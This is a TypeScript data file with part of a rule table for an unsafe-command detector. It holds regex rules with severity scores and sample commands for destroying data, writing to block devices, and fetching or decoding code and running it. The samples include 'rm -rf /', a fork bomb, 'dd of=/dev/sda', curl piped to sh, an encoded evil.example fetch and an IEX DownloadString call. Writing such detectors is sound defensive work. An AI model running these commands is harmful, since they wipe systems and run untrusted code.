// Data: part of the base rule table of the `command_unsafe` detector (`rules.ts` joins the parts).
import type { DocumentedRule } from "../rule-set.js";
import { commandRule as r } from "./command-rule.js";
import { DEV, SH } from "./shell-patterns.js";

/** Base `command_unsafe` rules: destroying data, writing to block devices, running downloaded or decoded code. */
export const BASE_DESTRUCTIVE_RULES: readonly DocumentedRule[] = [
  // Destructive
  r(
    "destructive",
    /\brm\s+(?:-[a-zA-Z]*\s+){0,8}-[a-zA-Z]*[rR][a-zA-Z]*\s+(?:-[-a-zA-Z]+\s+){0,8}(?:["']?(?:\/|~|\$HOME|\*|\/\*|\.\.?\/?\*?|\/(?:etc|usr|var|boot|bin|lib|home|root|opt|srv|sys|proc)\/?)["']?)(?=\s|$|;|&|\|)/g,
    "critical",
    0.9,
    {
      id: "command_unsafe.destructive_rm",
      meaning: "Destroys data or the system: `rm -r .` and the like.",
      matches: ["git rm -r ."],
      ignores: ["rm -r ./build"],
    },
  ),
  r("destructive", /--no-preserve-root/g, "critical", 0.95, {
    id: "command_unsafe.destructive_no_preserve",
    meaning: "Destroys data or the system: `--no-preserve-root` and the like.",
    matches: ["rm -rf / --no-preserve-root"],
    ignores: ["ls -la /tmp"],
  }),
  r("destructive", /\b(?:mkfs(?:\.\w+)?|mke2fs|wipefs|sgdisk\s+--zap|blkdiscard)\b/g, "high", 0.8, {
    id: "command_unsafe.destructive_mkfs",
    meaning: "Destroys data or the system: `wipefs` and the like.",
    matches: ["sudo wipefs {{/dev/sdX}}"],
    ignores: ["sgdisk {{[-L|--list-types]}}"],
  }),
  r("destructive", new RegExp(String.raw`\bshred\b[^\n;|&]{0,256}(?:${DEV}|\s-[a-z]*u)`, "g"), "high", 0.8, {
    id: "command_unsafe.destructive_shred",
    meaning: "Destroys data or the system: `shred -u` and the like.",
    matches: ["shred -u /tmp/victim-shred.txt"],
    ignores: ["shred {{path/to/file}}"],
  }),
  r("destructive", /:\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:/g, "critical", 0.95, {
    id: "command_unsafe.destructive_fork_bomb",
    meaning: "Destroys data or the system: `:(){ :|:& };:` and the like.",
    matches: [":(){ :|:& };:"],
    ignores: ["ls -la /tmp"],
  }),
  r("destructive", /\bfind\s+\/\S{0,256}\s[^\n|;]{0,256}-(?:delete|exec\s+rm)\b/g, "high", 0.8, {
    id: "command_unsafe.destructive_delete_find",
    meaning: "Destroys data or the system: `find /var/log -name 'system.log*' -exec rm` and the like.",
    matches: ["sudo find /var/log -name 'system.log*' -exec rm {} \\; #using \"rm\" execution"],
    ignores: ["rdfind -deleteduplicates true -ignoreempty false {{path/to/directory}}"],
  }),
  r(
    "destructive",
    /\bchmod\s+(?:-[a-zA-Z]*R[a-zA-Z]*\s+)?(?:0?777|a\+rwx)\s+\/(?:\s|$|etc|usr|var|bin)/g,
    "high",
    0.85,
    {
      id: "command_unsafe.destructive_chmod_0777",
      meaning: "Destroys data or the system: `chmod -R 777 /` and the like.",
      matches: ["chmod -R 777 /"],
      ignores: ["chmod 777 ./public"],
    },
  ),
  r("destructive", /\bchown\s+-[a-zA-Z]*R[a-zA-Z]*\s+\S+\s+\/(?:\s|$)/g, "high", 0.85, {
    id: "command_unsafe.destructive_chown",
    meaning: "Destroys data or the system: `chown -R nobody /` and the like.",
    matches: ["chown -R nobody /"],
    ignores: ["fwconsole chown"],
  }),
  r("destructive", /\b(?:truncate\s+-s\s*0|cat\s+\/dev\/null\s*>|>\s*)\s*\/var\/log\//g, "high", 0.85, {
    id: "command_unsafe.destructive_var_log",
    meaning: "Destroys data or the system: `> /var/log/` and the like.",
    matches: ["echo 0> /var/log/secure"],
    ignores: ["tail /var/log/syslog"],
  }),
  // Disk writes to devices
  r("device_write", new RegExp(String.raw`\bdd\b[^\n;|]{0,256}\bof=${DEV}`, "g"), "critical", 0.9, {
    id: "command_unsafe.device_write_of_dev",
    meaning: "Writes raw data to a block device: `dd if=/dev/zero of=/dev/sda` and the like.",
    matches: ["dd if=/dev/zero of=/dev/sda bs=1M"],
    ignores: ["ls -la /tmp"],
  }),
  r("device_write", new RegExp(String.raw`>\s*${DEV}`, "g"), "critical", 0.9, {
    id: "command_unsafe.device_write_dev",
    meaning: "Writes raw data to a block device: `cat image.iso > /dev/sda` and the like.",
    matches: ["cat image.iso > /dev/sda"],
    ignores: ["yes > /dev/null"],
  }),
  // Pipe to shell, download and execute, decode and execute
  r(
    "pipe_to_shell",
    new RegExp(String.raw`\b(?:curl|wget|fetch)\b[^\n|;]{0,256}\|\s*${SH}`, "g"),
    "critical",
    0.9,
    {
      id: "command_unsafe.pipe_to_shell_curl_usr",
      meaning:
        'Runs code that is downloaded or decoded on the fly: `curl -s "$STAGE_URL" | sh` and the like.',
      matches: ['OUTPUT=$(curl -s "$STAGE_URL" | sh 2>&1)'],
      ignores: ["curl -fsSL https://example.com/install.sh -o install.sh"],
    },
  ),
  r(
    "pipe_to_shell",
    new RegExp(String.raw`${SH}\s+(?:-c\s+)?["']?(?:<\(|\$\()\s*(?:curl|wget)\b`, "g"),
    "critical",
    0.9,
    {
      id: "command_unsafe.pipe_to_shell_curl_usr_2",
      meaning:
        "Runs code that is downloaded or decoded on the fly: `bash <(curl -s https://example.com/install.sh)` and the like.",
      matches: ["bash <(curl -s https://example.com/install.sh)"],
      ignores: ["bsub -I bash"],
    },
  ),
  r(
    "pipe_to_shell",
    new RegExp(
      String.raw`\b(?:base64\s+(?:-d|--decode|-D)|b64decode|xxd\s+-r)\b[^\n;]{0,256}\|\s*(?:${SH}|python\d?|perl|ruby|php)`,
      "g",
    ),
    "critical",
    0.9,
    {
      id: "command_unsafe.pipe_to_shell_base64_usr",
      meaning: "Runs code that is downloaded or decoded on the fly: `base64 -d | sh` and the like.",
      matches: ["echo aGVsbG8= | base64 -d | sh"],
      ignores: ["base64 -d payload.b64 > payload.bin"],
    },
  ),
  r("pipe_to_shell", /\beval\s+["']?\$\((?:echo|printf|curl|wget|base64|cat)\b/g, "high", 0.85, {
    id: "command_unsafe.pipe_to_shell_echo_eval",
    meaning:
      "Runs code that is downloaded or decoded on the fly: `eval $(echo ZWNobyBoaQ== | base64 -d)` and the like.",
    matches: ["eval $(echo ZWNobyBoaQ== | base64 -d)"],
    ignores: ["eval $(ssh-agent)"],
  }),
  r("pipe_to_shell", /\|\s*(?:sudo\s+)?(?:ba)?sh\s*$|\|\s*\/bin\/(?:ba)?sh\b/gm, "high", 0.7, {
    id: "command_unsafe.pipe_to_shell_bash",
    meaning: "Runs code that is downloaded or decoded on the fly: `|/bin/sh` and the like.",
    matches: ["echo $ART |/bin/sh"],
    ignores: ["bsub -I bash"],
  }),
  r(
    "pipe_to_shell",
    /\b(?:curl|wget)\b[^\n;]{0,256}(?:-o|-O|--output)\s*\S+[^\n]{0,256}\n?[^\n]{0,256}\bchmod\s+\+x\b/g,
    "high",
    0.8,
    {
      id: "command_unsafe.pipe_to_shell_chmod_curl",
      meaning:
        "Runs code that is downloaded or decoded on the fly: `curl -s {miner_url} -o miner && chmod +x` and the like.",
      matches: ['os.system(f"curl -s {miner_url} -o miner && chmod +x miner && ./miner")'],
      ignores: ["curl -o tool.tgz https://example.com/tool.tgz && tar xzf tool.tgz"],
    },
  ),
  r(
    "pipe_to_shell",
    /\bexec\s*\(\s*(?:base64\.b64decode|codecs\.decode|zlib\.decompress|__import__\(['"]base64)/g,
    "high",
    0.85,
    {
      id: "command_unsafe.pipe_to_shell_base64_b64decode",
      meaning: "Runs code that is downloaded or decoded on the fly: `exec(base64.b64decode` and the like.",
      matches: [
        'echo "\\npython3 -c \\"import os, base64;exec(base64.b64decode(\'aW1wb3J0IG9zCm9zLnBvcGVuKCdlY2hvIGF0b21pYyB0ZXN0IGZvciBtb2RpZnlpbmcgcmMubG9jYWwgPiAvdG1wL1QxMDM3LjAwNC5yYy5sb2NhbCcpCgo=\'))\\"" | sudo tee -a /etc/rc.local',
      ],
      ignores: ["exec {{3}}<>-"],
    },
  ),
  r("pipe_to_shell", /\b(?:bash|sh)\s+-c\s+["']?\$\(\s*(?:echo|printf)\s+[A-Za-z0-9+/=]{16,}/g, "high", 0.8, {
    id: "command_unsafe.pipe_to_shell_echo_bash",
    meaning:
      "Runs code that is downloaded or decoded on the fly: `bash -c $(echo Y3VybCBodHRwOi8vZXZpbC5leGFtcG…` and the like.",
    matches: ["bash -c $(echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d)"],
    ignores: ['bash -c "{echo,\\"$(echo $ENCODED)\\"}|{base64,-d}"'],
  }),
  r(
    "pipe_to_shell",
    /\bpowershell(?:\.exe)?\b[^\n]{0,256}\s-(?:e|en|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}/gi,
    "critical",
    0.9,
    {
      id: "command_unsafe.pipe_to_shell_powershell_exe",
      meaning:
        "Runs code that is downloaded or decoded on the fly: `powershell.exe -nop -w hidden -enc SQBFAFgAIA…` and the like.",
      matches: ["powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"],
      ignores: ["powershell.exe -File build.ps1"],
    },
  ),
  r(
    "pipe_to_shell",
    /\b(?:iex|invoke-expression)\b[^\n]{0,256}(?:downloadstring|invoke-webrequest|iwr|net\.webclient)|(?:downloadstring|invoke-webrequest|iwr)\b[^\n]{0,256}\|\s*iex\b/gi,
    "critical",
    0.9,
    {
      id: "command_unsafe.pipe_to_shell_iex_downloadstring",
      meaning:
        "Runs code that is downloaded or decoded on the fly: `IEX (New-Object Net.WebClient).DownloadString` and the like.",
      matches: ["IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"],
      ignores: ['iex --erl "-kernel shell_history enabled"'],
    },
  ),
];
